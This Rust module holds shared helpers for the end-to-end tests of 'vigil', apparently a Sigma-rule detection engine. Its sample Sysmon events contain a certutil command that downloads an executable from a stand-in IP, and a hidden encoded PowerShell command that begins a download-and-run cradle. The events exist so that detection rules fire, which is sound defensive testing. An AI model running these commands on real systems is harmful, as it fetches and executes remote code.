//! Shared by the end-to-end tests: running the built `vigil` binary, finding the corpus,
//! and reading what the binary prints.

// Each test file is its own crate and uses a different part of this module.
#![allow(dead_code)]

pub mod server;

use serde_json::{json, Value};
use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The SigmaHQ rule sets of the corpus that `vigil` must load without a rejection.
pub const SIGMA_RULE_SETS: [&str; 5] = [
    "rules",
    "rules-emerging-threats",
    "rules-threat-hunting",
    "rules-placeholder",
    "rules-compliance",
];

/// The corpus, or `None` (after saying so) when this machine has none.
pub fn corpus() -> Option<PathBuf> {
    let dir = vigil_formats::corpus_dir();
    if dir.is_none() {
        println!("skipped: corpus not found");
    }
    dir
}

/// The five SigmaHQ rule directories of [`SIGMA_RULE_SETS`].
pub fn sigma_rule_dirs(corpus: &Path) -> Vec<PathBuf> {
    SIGMA_RULE_SETS
        .iter()
        .map(|set| corpus.join("sigma").join(set))
        .collect()
}

/// What one run of the binary produced.
#[derive(Debug)]
pub struct Run {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
}

impl Run {
    /// Standard output as JSON Lines; panics naming the first line that is not JSON.
    pub fn jsonl(&self) -> Vec<Value> {
        self.stdout
            .lines()
            .enumerate()
            .map(|(n, line)| {
                serde_json::from_str(line)
                    .unwrap_or_else(|e| panic!("stdout line {} is not JSON ({e}): {line}", n + 1))
            })
            .collect()
    }

    /// Standard output as one JSON document.
    pub fn json(&self) -> Value {
        serde_json::from_str(&self.stdout)
            .unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {}", self.stdout))
    }

    /// Panics with the whole run when the exit code is not `expected`.
    pub fn expect_code(&self, expected: i32) -> &Run {
        assert_eq!(
            self.code, expected,
            "exit code {} (expected {expected}); stderr:\n{}",
            self.code, self.stderr
        );
        self
    }
}

/// A `vigil` command, ready for arguments.
pub fn vigil() -> Command {
    Command::new(env!("CARGO_BIN_EXE_vigil"))
}

/// Runs a command to completion. A panic (exit code 101) or a signal fails the test.
pub fn run(command: &mut Command) -> Run {
    let output = command.output().expect("spawning vigil");
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let code = output
        .status
        .code()
        .unwrap_or_else(|| panic!("vigil was killed by a signal; stderr:\n{stderr}"));
    assert_ne!(code, 101, "vigil panicked:\n{stderr}");
    assert!(
        !stderr.contains("panicked"),
        "a panic was reported:\n{stderr}"
    );
    Run {
        code,
        stdout: String::from_utf8(output.stdout).expect("stdout is UTF-8"),
        stderr,
    }
}

/// Runs `vigil` with `args`.
pub fn run_vigil<I, S>(args: I) -> Run
where
    I: IntoIterator<Item = S>,
    S: AsRef<OsStr>,
{
    run(vigil().args(args))
}

/// Writes `events` as JSON Lines.
pub fn write_jsonl(path: &Path, events: &[Value]) {
    let text: String = events.iter().map(|e| format!("{e}\n")).collect();
    std::fs::write(path, text).expect("writing JSONL input");
}

/// A Sysmon process creation of certutil downloading a file: Vigil's built-in
/// "Certutil Used to Download or Decode a File" rule fires on it.
pub fn certutil_download(timestamp: &str, computer: &str, record_id: i64) -> Value {
    json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "EventRecordID": record_id,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        "@timestamp": timestamp,
        "Computer": computer,
    })
}

/// The `key` of every detection, e.g. every `rule_id`.
pub fn texts<'a>(detections: &'a [Value], key: &str) -> Vec<&'a str> {
    detections.iter().filter_map(|d| d[key].as_str()).collect()
}

/// A Sysmon process creation that the built-in rules call encoded PowerShell.
pub fn encoded_powershell(host: &str) -> Value {
    json!({
        "@timestamp": chrono::Utc::now().to_rfc3339(),
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Computer": host,
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "User": "SYT\\nguyenvana",
    })
}
